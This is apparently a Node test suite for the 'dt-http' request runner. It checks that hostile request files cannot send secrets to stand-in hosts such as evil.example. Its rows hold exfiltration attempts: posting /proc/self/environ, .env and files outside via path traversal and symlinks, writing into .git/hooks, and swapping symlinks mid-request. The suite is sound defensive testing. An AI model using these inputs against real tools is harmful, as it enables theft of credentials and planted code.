import assert from 'node:assert/strict';
import { existsSync, mkdirSync, readdirSync, readFileSync, renameSync, symlinkSync } from 'node:fs';
import path from 'node:path';
import { answer, accessToken, HostileWorld } from '../../helpers/hostileWorld';
import { assertNoTrace, assertTrace, plant } from '../../helpers/hostile';
import { dtHttp, Folders, personOf } from '../../helpers/program';
import type { TerminalResult } from '../../helpers/terminal';

const api = 'api.disruptive-technologies.com';
const secrets = {
  account: plant('secret of the account'),
  process: plant('value of the process'),
  stored: plant('stored secret'),
  dotenv: plant('value of .env', ['k/', '+&=41~']),
  outside: plant('a file outside'),
} as const;
const everySecret = [...Object.values(secrets), accessToken];

/** One request of the JSON report. */
interface Reported {
  readonly name?: string;
  readonly verdict: string;
  readonly status?: number;
  readonly findings: readonly { readonly code: string }[];
  readonly explanation?: { readonly code: string };
  readonly saved?: { readonly kind: string };
}

/** Files of a request: its own folder of the workspace has them, and nothing else does. */
interface Row {
  /** The block; `NAME` in it is the name of the request. */
  readonly text: string;
  readonly environment?: Readonly<Record<string, unknown>>;
  /** What `.env` beside it holds. Default: a value of the person's. */
  readonly dotenv?: string;
}

const get = (target: string): Row => ({ text: `GET ${target}\n` });
const based = (apiBase: string, text = 'GET /NAME\n'): Row => ({ text, environment: { apiBase } });

describe('dt-http in a hostile folder', () => {
  let world: HostileWorld;
  let folders: Folders;
  let person: Readonly<Record<string, string>>;
  before(async () => {
    world = await HostileWorld.start();
  });
  after(() => world.dispose());
  beforeEach(() => {
    world.forget();
    folders = new Folders();
    folders.write({ 'away/secret.txt': secrets.outside.value });
    person = { ...personOf(folders, world, secrets.account.value), PLANTED: secrets.process.value, DT_HTTP_SECRET_VAULT: secrets.stored.value };
  });
  afterEach(() => folders.dispose());

  /** Writes each row into a folder of its own, runs all, and gives what was told and reported. */
  const run = async (rows: Readonly<Record<string, Row>>, ...options: readonly string[]): Promise<TerminalResult & { readonly reported: ReadonlyMap<string, Reported> }> => {
    const files = Object.entries(rows).map(([name, { text, environment = {}, dotenv = `PLANTED='${secrets.dotenv.value}'\n` }]) => {
      folders.write({
        [`ws/${name}/a.dt.http`]: `# @name ${name}\n# @retry none\n${text.replaceAll('NAME', name)}`,
        [`ws/${name}/.env`]: dotenv,
        [`ws/${name}/http-client.env.json`]: JSON.stringify({ $shared: { stored: { $secret: 'vault' }, ...environment } }),
      });
      return `${name}/a.dt.http`;
    });
    const report = folders.at('away/report.json');
    const result = await dtHttp(folders, person, ['run', ...files, '--verbose', '--report', `json=${report}`, ...options]);
    assertNoTrace('the output', result.out + result.err, everySecret);
    assertNoTrace('the report', readFileSync(report), everySecret);
    const { files: told } = JSON.parse(readFileSync(report, 'utf8')) as { readonly files: readonly { readonly requests: readonly Reported[] }[] };
    return { ...result, reported: new Map(told.flatMap(({ requests }) => requests.map((request) => [request.name ?? '', request]))) };
  };

  const paths = () => [...world.evil.heard, ...world.plain.heard].map(({ target }) => target).join(' ');

  it('sends requests where the files say, with nothing of the person; DT alone gets the token', async () => {
    const rows: Readonly<Record<string, Row>> = {
      another_host: based('https://evil.example'),
      begins_like_DT: based(`https://${api}.evil.example`),
      ends_like_DT: based('https://api-disruptive-technologies.com'),
      punycode: based('https://xn--pi-6kc.disruptive-technologies.com'),
      another_port: based(`https://${api}:444`),
      without_tls: based(`http://${api}`),
      with_basic: based('https://evil.example', '# @auth basic\nGET /NAME\n'),
      with_account: { text: 'GET /NAME\n', environment: { apiBase: 'https://evil.example', account: 'b0@c0.serviceaccount.d21s.com' } },
      posted: based('https://evil.example', 'POST /NAME\n\n{ "a": "b" }\n'),
      host_header: get('/NAME\nHost: evil.example'),
      host_header_port: get(`/NAME\nHost: ${api}:444`),
      from_variable: { text: 'GET {{url}}\n', environment: { url: 'https://evil.example/NAME' } },
      redirected: get('/NAME'),
      this_machine: get(`https://localhost:${world.evil.port}/NAME`),
    };
    world.dt.answering = ({ target }) => (target.endsWith('/redirected') ? answer(302, '', { Location: 'https://evil.example/redirected' }) : answer(200));
    const { reported, err } = await run({ ...rows, signed: get('/signed') });
    for (const name of Object.keys(rows)) {
      assert.match(paths(), new RegExp(`/${name.replace('from_variable', 'NAME')}\\b`), `${name} got nowhere: ${err}`);
      assert.equal(reported.get(name)?.status, 200, name);
    }
    assertNoTrace('the other hosts', world.overheard, everySecret);
    assertTrace("DT's API", world.dt.octets, [accessToken]);
    assertNoTrace("DT's API", world.dt.octets, [secrets.account]);
    assert.equal(world.identity.heard.length, 1);
  });

  it('goes by the variables of the person, and by no file of the folder', async () => {
    const elsewhere = `http://127.0.0.1:${world.plain.port}`;
    const environment = { HTTPS_PROXY: elsewhere, https_proxy: elsewhere, HTTP_PROXY: elsewhere, NO_PROXY: '*', DT_HTTP_ALLOW_HOSTS: 'https://evil.example', NODE_TLS_REJECT_UNAUTHORIZED: '0' };
    const settings = { 'http.proxy': elsewhere, 'http.proxyStrictSSL': false, 'http.noProxy': ['*'], 'dtHttp.allowedHosts': ['https://evil.example'], 'rest-client.environmentVariables': { $shared: { apiBase: 'https://evil.example' } } };
    const dotenv = Object.entries(environment).map(([name, value]) => `${name}=${value}\n`).join('');
    folders.write({
      'ws/.env': dotenv,
      'ws/.vscode/settings.json': JSON.stringify(settings),
      'ws/.npmrc': `proxy=${elsewhere}\nhttps-proxy=${elsewhere}\n`,
      'ws/package.json': JSON.stringify({ 'dt-http': settings, config: environment }),
    });
    await run({
      signed: { text: 'GET /signed\n', environment, dotenv },
      read: { text: '@v = {{$dotenv HTTPS_PROXY}}\nGET /read?{{%v}}\n', environment, dotenv },
      unsigned: { text: 'GET https://evil.example/NAME\n', environment, dotenv },
    });
    assert.equal(world.plain.heard.length, 0);
    assert.match(world.dt.heard.map(({ target }) => target).join(), /read\?http%3A%2F%2F127/);
    assert.match(paths(), /unsigned/);
    assert.ok(world.proxy.seen.some(({ target }) => target === `${api}:443`));
    assertNoTrace('the other hosts', world.overheard, everySecret);
    assertTrace("DT's API", world.dt.octets, [accessToken]);
  });

  it('refuses what would take a value of this machine or a file outside away, whatever --yes says', async () => {
    const away = (name: string) => folders.at('away', name);
    symlinkSync(away('secret.txt'), folders.at('ws/link.txt'));
    symlinkSync(folders.at('away'), folders.at('ws/linked'));
    symlinkSync('.env', folders.at('ws/innocent.txt'));
    const send = (line: string, code: string): readonly [Row, string] => [{ text: `POST https://evil.example/NAME\n\n${line}\n` }, code];
    const value = (text: string, code: string): readonly [Row, string] => [{ text }, code];
    const rows: Readonly<Record<string, readonly [Row, code: string]>> = {
      process_in_header: value('GET https://evil.example/\nX-A: {{$processEnv PLANTED}}\n', 'variable.guarded'),
      process_in_host: value('GET https://{{$processEnv PLANTED}}.evil.example/\n', 'variable.guarded'),
      process_in_base: [{ text: 'GET /\nX-A: {{$env.PLANTED}}\n', environment: { apiBase: 'https://evil.example' } }, 'variable.guarded'],
      dotenv_in_body: value('POST https://evil.example/\n\n{{$dotenv PLANTED}}\n', 'variable.guarded'),
      dotenv_to_port: value(`GET https://${api}:444/\nX-A: {{$dotenv PLANTED}}\n`, 'variable.guarded'),
      our_own_secret: value('GET /projects\nX-A: {{$processEnv DT_HTTP_SECRET_VAULT}}\n', 'variable.system-forbidden'),
      stored_in_header: value('GET https://evil.example/\nX-A: {{stored}}\n', 'secret.origin'),
      stored_without_tls: value(`GET http://${api}/\nX-A: {{stored}}\n`, 'secret.origin'),
      user_in_base: [based(`https://${api}@evil.example`), 'target.base'],
      user_in_target: value(`GET https://${api}@evil.example/\n`, 'target.userinfo'),
      two_hosts: value(`GET https://evil.example/\nHost: ${api}\n`, 'target.host-differs'),
      above: send('< ../../away/secret.txt', 'body.file-outside'),
      above_by_way_of: send('< ./x/../../../away/secret.txt', 'body.file-outside'),
      absolute: send(`< ${away('secret.txt')}`, 'body.file-outside'),
      with_variables: send('<@ ../../away/secret.txt', 'body.file-outside'),
      link_to_a_file: send('< ../link.txt', 'body.file-outside'),
      link_to_a_folder: send('< ../linked/secret.txt', 'body.file-outside'),
      of_the_process: send('< /proc/self/environ', 'body.file-outside'),
      path_from_variable: [{ text: 'POST https://evil.example/\n\n< {{path}}\n', environment: { path: '../../away/secret.txt' } }, 'body.file-outside'],
      percent_encoded: send('< %2e%2e/%2e%2e/away/secret.txt', 'body.file-unreadable'),
      percent_encoded_slash: send('< ..%2f..%2faway%2fsecret.txt', 'body.file-unreadable'),
      other_slashes: send('< ..\\..\\away\\secret.txt', 'body.file-unreadable'),
      of_a_server: send('< //server/share/secret.txt', 'body.file-outside'),
      of_a_server_of_windows: send('< \\\\server\\share\\secret.txt', 'body.file-refused'),
      of_a_drive: send('< C:\\secret.txt', 'body.file-refused'),
      url: send(`< file://${away('secret.txt')}`, 'body.file-refused'),
      home: send('< ~/secret.txt', 'body.file-refused'),
      dotenv_itself: send('< ./.env', 'body.file-refused'),
      dotenv_by_a_link: send('< ../innocent.txt', 'body.file-refused'),
      environment_itself: send('< ./http-client.env.json', 'body.file-refused'),
      imported_outside: value(`# @import ${away('other.http')}\nGET https://evil.example/\n`, 'import.outside'),
      imported_by_a_link: value('# @import ../linked/other.http\nGET https://evil.example/\n', 'import.outside'),
    };
    folders.write({ 'away/other.http': '@apiBase = https://evil.example\n' });
    const { code, reported, err } = await run(Object.fromEntries(Object.entries(rows).map(([name, [row]]) => [name, row])), '--yes');
    assert.deepEqual(Object.keys(rows).map((name) => [name, reported.get(name)?.verdict, reported.get(name)?.findings[0]?.code]), Object.entries(rows).map(([name, [, expected]]) => [name, 'refused', expected]), err);
    assert.equal(code, 2);
    assert.match(err, /Nothing was sent\./);
    assert.equal(world.overheard.length, '[]'.length, 'somebody was asked for something');
  });

  for (const [file, text] of [['http-client.env.json', '{{%secret}}'], ['http-client.private.env.json', '{{%secret}}'], ['.env', '{{$dotenv PLANTED}}']] as const) {
    it(`takes no values out of a file outside that ${file} is a link to`, async () => {
      folders.write({ 'away/.env': `PLANTED=${secrets.outside.value}\n`, 'ws/linked/a.dt.http': `@v = ${text}\nGET https://evil.example/?${file === '.env' ? '{{%v}}' : text}\n` });
      symlinkSync(folders.at('away', file === '.env' ? '.env' : 'credentials.json'), folders.at('ws/linked', file));
      // As a setting of the folder would choose it in the editor.
      const options = file === '.env' ? ['--allow-host', 'https://evil.example'] : ['--env', 'serviceAccount'];
      const { code, out, err } = await dtHttp(folders, person, ['run', 'linked/a.dt.http', '--yes', ...options]);
      assertNoTrace('the other hosts', world.overheard, [secrets.account, secrets.outside]);
      assertNoTrace('the output', out + err, everySecret);
      assert.equal(code, 2, out + err);
    });
  }

  it('writes nothing outside of the folder, nor where tools keep their settings', async () => {
    symlinkSync(folders.at('away'), folders.at('ws/linked'));
    symlinkSync(folders.at('away/secret.txt'), folders.at('ws/link.txt'));
    symlinkSync(folders.at('away/new.txt'), folders.at('ws/dangling.txt'));
    folders.write({ 'ws/.git/config': '[core]\n', 'ws/other.http': 'GET /\n' });
    symlinkSync('.git', folders.at('ws/innocent'));
    const save = (line: string, code: string, environment = {}): readonly [Row, string] => [{ text: `GET /NAME\n\n${line}\n`, environment }, code];
    const rows: Readonly<Record<string, readonly [Row, string]>> = {
      above: save('>> ../../away/new.txt', 'save.outside'),
      above_in_place: save('>>! ../../away/secret.txt', 'save.outside'),
      absolute: save(`>> ${folders.at('away/new.txt')}`, 'save.outside'),
      by_way_of: save('>> ./x/../../../away/new.txt', 'save.outside'),
      link_to_a_folder: save('>> ../linked/new.txt', 'save.outside'),
      link_to_a_file: save('>>! ../link.txt', 'save.outside'),
      link_to_nothing: save('>> ../dangling.txt', 'save.outside'),
      from_variable: save('>> {{path}}', 'save.outside', { path: '../../away/new.txt' }),
      of_a_server: save('>> //server/share/new.txt', 'save.outside'),
      of_a_server_of_windows: save('>> \\\\server\\share\\new.txt', 'save.refused'),
      of_a_drive: save('>> C:\\new.txt', 'save.refused'),
      home: save('>> ~/new.txt', 'save.refused'),
      git: save('>> ../.git/hooks/post-checkout', 'save.refused'),
      git_by_a_link: save('>> ../innocent/hooks/post-checkout', 'save.refused'),
      vscode: save('>>! ../.vscode/settings.json', 'save.refused'),
      dotenv: save('>>! ./.env', 'save.refused'),
      environment: save('>>! ./http-client.env.json', 'save.refused'),
      hidden: save('>> ../.npmrc', 'save.refused'),
      itself: save('>>! ./a.dt.http', 'save.refused'),
      another_request_file: save('>>! ../other.http', 'save.refused'),
    };
    const before = snapshot(folders.at('away'));
    const { code, reported, err } = await run(Object.fromEntries(Object.entries(rows).map(([name, [row]]) => [name, row])), '--yes');
    assert.deepEqual(Object.keys(rows).map((name) => [name, reported.get(name)?.verdict, reported.get(name)?.findings[0]?.code]), Object.entries(rows).map(([name, [, expected]]) => [name, 'refused', expected]), err);
    assert.equal(code, 2);
    assert.deepEqual(snapshot(folders.at('away')), before);
    assert.deepEqual(readdirSync(folders.at('ws/.git')), ['config']);
    assert.equal(world.dt.heard.length, 0);
  });

  it('writes nothing outside when a folder becomes a link while the request is on its way', async () => {
    const before = snapshot(folders.at('away'));
    mkdirSync(folders.at('ws/folder/out'), { recursive: true });
    folders.write({ 'ws/file/answer.json': 'old' });
    world.dt.answering = ({ target }) => {
      const swap = (name: string, to: string) => {
        renameSync(folders.at('ws', name), folders.at('ws', `${name}.old`));
        symlinkSync(to, folders.at('ws', name));
      };
      if (target.endsWith('/folder')) swap('folder/out', folders.at('away'));
      if (target.endsWith('/file')) swap('file/answer.json', folders.at('away/secret.txt'));
      if (target.endsWith('/fresh')) symlinkSync(folders.at('away'), folders.at('ws/fresh/out'));
      return answer(200, '{"planted":"by the server"}');
    };
    const save = (line: string): Row => ({ text: `GET /NAME\n\n${line}\n` });
    const { reported } = await run({ folder: save('>> out/answer.json'), file: save('>>! answer.json'), fresh: save('>> out/answer.json'), untouched: save('>> out/answer.json') });
    assert.deepEqual(snapshot(folders.at('away')), before);
    assert.deepEqual([...reported].map(([name, { saved }]) => [name, saved?.kind]), [['folder', 'failed'], ['file', 'failed'], ['fresh', 'failed'], ['untouched', 'saved']]);
    assert.match(readFileSync(folders.at('ws/untouched/out/answer.json'), 'utf8'), /by the server/);
  });
});

/** What is in a folder, by path; the report that a test asks for is left out. */
function snapshot(folder: string): Readonly<Record<string, string>> {
  const entries = readdirSync(folder, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile() && entry.name !== 'report.json');
  return Object.fromEntries(entries.map((entry) => path.join(entry.parentPath, entry.name)).map((file) => [path.relative(folder, file), existsSync(file) ? readFileSync(file, 'utf8') : '']));
}
